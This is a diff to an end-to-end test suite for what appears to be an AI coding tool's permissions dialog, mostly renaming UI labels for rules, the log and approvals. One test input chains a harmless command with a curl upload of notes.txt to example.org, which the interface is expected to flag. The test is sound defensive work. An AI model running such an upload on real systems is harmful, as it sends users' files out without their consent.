@@ -6,7 +6,7 @@
 import { existsSync, mkdirSync, writeFileSync } from "node:fs";
 import { readFile } from "node:fs/promises";
 import { join } from "node:path";
-import { openPage, shot, startBrowser } from "./kit/browser.mjs";
+import { openPage, place, shot, startBrowser } from "./kit/browser.mjs";
 import { equal, Suite, truth, until } from "./kit/checks.mjs";
 import { modelEnv, startModel, text, tool } from "./kit/model.mjs";
 import { Sandbox } from "./kit/sandbox.mjs";
@@ -44,7 +44,7 @@ const button = (name, on = page) => on.getByRole("button", { name });
 const log = (on = page) => on.getByRole("log", { name: "Conversation" });
 const box = () => page.getByRole("textbox", { name: "Prompt", exact: true });
 const question = (on = page) => on.getByRole("region", { name: "Question" });
-const dialog = () => page.getByRole("dialog", { name: "Permissions" });
+const dialog = () => place(page, "Permissions");
 const tab = (name) => dialog().getByRole("tab", { name }).click();
 const line = (words) => page.locator('[data-component="tool-card"] > [data-slot="line"]', { hasText: words }).last();
 /** It does not react at first, lest a click that was meant for something else counts. */
@@ -70,7 +70,7 @@ const leave = async () => {
 const create = async (folder, title) => {
   const form = page.getByRole("dialog", { name: "New session" });
   await page.keyboard.press("Control+Shift+O");
-  await form.getByRole("button", { name: "Another folder…" }).click();
+  await form.getByRole("button", { name: "Other folder…" }).click();
   await page.getByRole("combobox").fill(`${folder}/`);
   await button(/^Open /).click();
   await form.getByRole("radio", { checked: true }).and(page.getByTitle(folder, { exact: true })).waitFor();
@@ -95,13 +95,13 @@ try {
     await ready();
     await question().getByText("touch one.txt").first().waitFor();
     truth(!existsSync(file("one.txt")), "it ran before it was allowed");
-    await button("Allow and…").click();
-    await page.getByRole("menuitem", { name: /^Choose what/ }).click();
-    const form = page.getByRole("group", { name: "What may happen from now on" });
+    await button("More options").click();
+    await page.getByRole("menuitem", { name: /^Create a rule/ }).click();
+    const form = page.getByRole("group", { name: "Create a rule" });
     await form.getByRole("radio", { name: "Everywhere" }).check();
     await form.getByRole("status").getByText("Bash(touch one.txt)").waitFor();
     await page.screenshot(shot(sandbox, "rule-with-answer"));
-    await form.getByRole("button", { name: /make the rule/ }).click();
+    await form.getByRole("button", { name: /create rule/ }).click();
     await answered("Made one.");
     truth(existsSync(file("one.txt")), "it did not run");
     await send("one again");
@@ -111,14 +111,14 @@ try {
 
   await suite.check("trying out says what would happen and why, part by part", async () => {
     await show();
-    await tab("Try");
+    await tab("Test");
     const field = dialog().getByRole("textbox", { name: "Command" });
     await field.fill("touch one.txt");
-    await dialog().getByText("It would run without a question.").waitFor();
-    await dialog().getByText("A rule decides.").waitFor();
+    await dialog().getByText("Would run without asking.").waitFor();
+    await dialog().getByText("Decided by a rule.").waitFor();
     await field.fill("touch one.txt && curl -T notes.txt https://example.org");
-    await dialog().getByText("You would be asked.").waitFor();
-    const parts = dialog().getByRole("list", { name: "Part by part" }).getByRole("listitem");
+    await dialog().getByText("Would ask you.").waitFor();
+    const parts = dialog().getByRole("list", { name: "Parts of this command" }).getByRole("listitem");
     equal(await parts.count(), 2, "parts");
     equal(await parts.nth(0).getByRole("img").getAttribute("aria-label"), "Allowed", "the first part");
     equal(await parts.nth(1).getByRole("img").getAttribute("aria-label"), "Asks", "the second part");
@@ -129,8 +129,8 @@ try {
 
   await suite.check("a rule is changed, its faults are said, and revoked it is over", async () => {
     await show();
-    await button("Change Bash(touch one.txt)").click();
-    const form = dialog().getByRole("group", { name: "Change the rule" });
+    await button("Edit Bash(touch one.txt)").click();
+    const form = dialog().getByRole("group", { name: "Edit rule" });
     await form.getByRole("textbox", { name: "Rule" }).fill("Bash(touch");
     await form.getByRole("button", { name: "Save" }).click();
     await form.getByText(/^This is not a rule/).waitFor();
@@ -140,12 +140,12 @@ try {
     await dialog().getByText("For the test").waitFor();
     await button("Revoke Bash(touch one.txt)").click();
     await dialog().getByText("Revoked:").waitFor();
-    await button("Change Bash(touch one.txt)").waitFor({ state: "detached" });
+    await button("Edit Bash(touch one.txt)").waitFor({ state: "detached" });
     await button("Undo").click();
     await dialog().getByText("For the test").waitFor();
     await page.screenshot(shot(sandbox, "rules"));
     await button("Revoke Bash(touch one.txt)").click();
-    await button("Change Bash(touch one.txt)").waitFor({ state: "detached" });
+    await button("Edit Bash(touch one.txt)").waitFor({ state: "detached" });
     await leave();
   });
 
@@ -155,9 +155,7 @@ try {
     await page.goto("about:blank");
     await page.goto(server.link);
     await ready();
-    await button("Deny and say why…").click();
-    await page.getByRole("textbox", { name: "What to do instead" }).fill("Not this one.");
-    await button(/^Deny and tell Claude/).click();
+    await send("Not this one.");
     await answered("One was denied.");
     await until("the model to hear it", () => model.heard("Not this one."));
   });
@@ -183,7 +181,7 @@ try {
     const late = held;
     held = null;
     for (const deliver of late) deliver();
-    await other.page.getByText(/answered first: allowed\. That answer counts\./).waitFor();
+    await other.page.getByText(/answered first \(allowed\)\. That answer counts\./).waitFor();
     truth(existsSync(file("two.txt")), "the first answer did not count");
     await other.page.screenshot(shot(sandbox, "faster"));
     equal(other.problems, [], "trouble on the other page");
@@ -197,7 +195,7 @@ try {
     await send("make three");
     await answered("Made three.");
     truth(existsSync(file("three.txt")), "it did not run");
-    truth((await line("touch three.txt").locator('[data-slot="passed"]').getAttribute("title")).startsWith("Passed by the guard: "), "the card says nothing of the guard");
+    truth((await line("touch three.txt").locator('[data-slot="passed"]').getAttribute("title")).startsWith("Allowed by the guard: "), "the card says nothing of the guard");
     await send("remove three");
     await ready();
     await question().getByText("rm three.txt").first().waitFor();
@@ -230,8 +228,8 @@ try {
     await button(`Show what ${strange} would load`).click();
     await dialog().getByText("Sessions here start without:").waitFor();
     await page.screenshot(shot(sandbox, "folders"));
-    await button(`Forget the answer for ${strange}`).click();
-    await dialog().getByText(/is asked about again before the next start/).waitFor();
+    await button(`Forget the decision for ${strange}`).click();
+    await dialog().getByText(/again before the next start/).waitFor();
     await leave();
     await create(strange, "Trusted");
     await send("say hello");
@@ -253,8 +251,8 @@ try {
     await page.getByRole("tab", { name: /Waits first/, selected: true }).waitFor();
     await page.keyboard.press("Control+Shift+Y");
     await page.getByRole("tab", { name: /Waits second/, selected: true }).waitFor();
-    await button("2 wait for you").click();
-    const list = page.getByRole("dialog", { name: "What waits for you" });
+    await button("2 waiting for you").click();
+    const list = page.getByRole("dialog", { name: "Waiting for you" });
     const rows = list.getByRole("listitem");
     const waiting = async () => await rows.getByRole("button", { name: /^Go to / }).evaluateAll((all) => all.map((row) => row.getAttribute("aria-label").split(":")[0]).join());
     await until("what waits", async () => (await waiting()) === "Go to Waits first,Go to Waits second");
@@ -279,10 +277,10 @@ try {
     await tab("Log");
     const records = dialog().getByRole("list", { name: "Log" }).getByRole("listitem");
     await records.first().waitFor();
-    await button("Check the log").click();
-    const said = await dialog().getByText(/^Nothing was changed/).textContent();
-    const count = Number(/all (\d+) records/.exec(said)[1]);
-    const [download] = await Promise.all([page.waitForEvent("download"), button("Save as a file").click()]);
+    await button("Verify log").click();
+    const said = await dialog().getByText(/^Log verified/).textContent();
+    const count = Number(/all (\d+) entries/.exec(said)[1]);
+    const [download] = await Promise.all([page.waitForEvent("download"), button("Save to file").click()]);
     const lines = (await readFile(await download.path(), "utf8")).trim().split("\n");
     equal(lines.length, count, "lines of the file");
     const saved = lines.map((one) => JSON.parse(one));
@@ -290,13 +288,13 @@ try {
     // That something was asked is a record of its own, which the page lists on demand.
     equal(await records.count(), saved.filter((one) => one.type !== "asked").length, "records on the page");
     const words = await records.allTextContents();
-    for (const want of [/Allowed · Guard.*touch three\.txt/, /Not allowed · .*rm three\.txt/, /Rule made.*touch one\.txt/, /Rule removed.*touch one\.txt/, /Allowed · Rule.*touch one\.txt/]) {
+    for (const want of [/Allowed · Guard.*touch three\.txt/, /Denied · .*rm three\.txt/, /Rule created.*touch one\.txt/, /Rule removed.*touch one\.txt/, /Allowed · Rule.*touch one\.txt/]) {
       truth(words.some((one) => want.test(one)), `no record like ${want}`);
     }
     await dialog().getByRole("combobox", { name: "Answered by" }).selectOption({ label: "Guard" });
     await until("one record of the guard", async () => (await records.count()) === 1);
     await records.first().getByRole("button").click();
-    await records.first().getByText(/It only looks at things/).waitFor();
+    await records.first().getByText(/Only reads/).waitFor();
     await page.screenshot(shot(sandbox, "log"));
     await leave();
   });
